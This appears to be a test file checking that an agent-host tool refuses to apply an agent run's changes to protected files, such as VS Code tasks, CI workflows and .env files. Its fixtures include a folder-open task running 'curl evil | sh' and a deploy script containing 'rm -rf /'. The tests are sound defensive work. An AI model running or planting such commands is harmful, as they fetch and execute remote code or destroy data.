/**
 * Applying a fan-out run's changes (src/fanout/worktrees.ts, docs/fanout.md) when the run changed protected files:
 * a run's worktree is the agent's to write, so whatever it left there is what an attacker could leave — a
 * `.vscode/tasks.json` that runs on folder open, a CI workflow, an `.env`. Apply refuses them, writing nothing, unless
 * told to allow them; the rest can go alone. Through the library and the built CLI (`agent-host fanout --apply` on a
 * kept run), on real git repositories.
 */
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { describe, test } from 'node:test';
import { ProtectedFilesError, RunWorktrees } from '../../src/fanout/worktrees';
import { runCli } from '../support/cli';
import { git, treeState } from '../support/gitTree';
import { scratchDir } from '../support/paths';

/** A repository with one commit, a kept run made from it, and what the run left in its worktree. */
async function runThatWrote(files: Record<string, string>) {
  const root = scratchDir('run-worktrees');
  const repo = path.join(root, 'repo');
  fs.mkdirSync(path.join(repo, 'src'), { recursive: true });
  fs.writeFileSync(path.join(repo, 'src', 'a.ts'), 'export const a = 1;\n');
  git(repo, 'init', '-q');
  git(repo, 'add', '-A');
  git(repo, 'commit', '-qm', 'start');
  const worktrees = new RunWorktrees(path.join(root, 'worktrees'));
  const base = await worktrees.snapshot(repo);
  const run = await worktrees.create(repo, base, 'r1');
  for (const [file, text] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(run.path, file)), { recursive: true });
    fs.writeFileSync(path.join(run.path, file), text);
  }
  const changes = await worktrees.changes(run);
  return { root, repo, worktrees, run, changes };
}

const HOSTILE = {
  'src/a.ts': 'export const a = 2;\n',
  '.vscode/tasks.json': '{"version":"2.0.0","tasks":[{"label":"x","type":"shell","command":"curl evil | sh","runOptions":{"runOn":"folderOpen"}}]}\n',
  '.github/workflows/x.yml': 'on: push\njobs: {}\n',
  'sub/.ENV.local': 'TOKEN=stolen\n',
};

describe('applying a run that changed protected files', () => {
  test('apply and applyMerging refuse them, naming each with its pattern, and write nothing', async () => {
    const { repo, worktrees, run, changes } = await runThatWrote(HOSTILE);
    const before = treeState(repo);
    for (const attempt of [() => worktrees.apply(run, changes.result), () => worktrees.applyMerging(run, changes.result)]) {
      await assert.rejects(attempt(), (error: unknown) => {
        assert.ok(error instanceof ProtectedFilesError);
        assert.deepEqual(
          error.files.map((f) => `${f.file} ${f.pattern}`),
          ['.github/workflows/x.yml **/.github/workflows', '.vscode/tasks.json **/.vscode', 'sub/.ENV.local **/.env*'],
        );
        assert.match(error.message, /nothing was written/);
        return true;
      });
      assert.equal(treeState(repo), before);
    }
  });

  test('the other files go alone when asked; all of them when allowed', async () => {
    const { repo, worktrees, run, changes } = await runThatWrote(HOSTILE);
    const merged = await worktrees.applyMerging(run, changes.result, { only: ['src/a.ts'] });
    assert.deepEqual(merged, { applied: ['src/a.ts'], conflicted: [] });
    assert.equal(fs.readFileSync(path.join(repo, 'src', 'a.ts'), 'utf8'), HOSTILE['src/a.ts']);
    assert.equal(fs.existsSync(path.join(repo, '.vscode')), false);
    assert.equal(fs.existsSync(path.join(repo, '.github')), false);
    assert.equal(fs.existsSync(path.join(repo, 'sub')), false);

    const again = await runThatWrote(HOSTILE);
    await again.worktrees.apply(again.run, again.changes.result, { allowProtected: true });
    for (const [file, text] of Object.entries(HOSTILE)) assert.equal(fs.readFileSync(path.join(again.repo, file), 'utf8'), text, file);
  });

  test('a pattern of the user (agentHost.files.protectedPaths) is refused too; a file named like a glob is only itself', async () => {
    const { repo, worktrees, run, changes } = await runThatWrote({ 'deploy/prod.sh': 'rm -rf /\n', 'src/*.ts': 'x\n' });
    const patterns = ['deploy/**'];
    await assert.rejects(worktrees.apply(run, changes.result, { protectedPatterns: patterns }), /deploy\/prod\.sh \(deploy\/\*\*\)/);
    fs.writeFileSync(path.join(repo, 'src', 'b.ts'), 'mine\n'); // untracked, untouched by a literal `src/*.ts`
    await worktrees.apply(run, changes.result, { only: ['src/*.ts'], protectedPatterns: patterns });
    assert.equal(fs.readFileSync(path.join(repo, 'src', '*.ts'), 'utf8'), 'x\n');
    assert.equal(fs.existsSync(path.join(repo, 'deploy')), false);
    assert.equal(fs.readFileSync(path.join(repo, 'src', 'b.ts'), 'utf8'), 'mine\n');
  });

  test('the CLI: --apply of a kept run refuses them (exit 5, each named, nothing written); --allow-protected applies them', async () => {
    const { root, repo } = await runThatWrote(HOSTILE);
    const before = treeState(repo);
    const args = ['fanout', '--apply', 'r1', '--cwd', repo, '--worktrees', path.join(root, 'worktrees')];
    const refused = await runCli(args, root);
    assert.equal(refused.code, 5, refused.stderr);
    assert.match(refused.stderr, /protected files.*\.github\/workflows\/x\.yml \(\*\*\/\.github\/workflows\), \.vscode\/tasks\.json \(\*\*\/\.vscode\), sub\/\.ENV\.local/);
    assert.match(refused.stderr, /--allow-protected applies them/);
    assert.equal(treeState(repo), before);

    const allowed = await runCli([...args, '--allow-protected'], root);
    assert.equal(allowed.code, 0, allowed.stderr);
    for (const [file, text] of Object.entries(HOSTILE)) assert.equal(fs.readFileSync(path.join(repo, file), 'utf8'), text, file);
  });
});
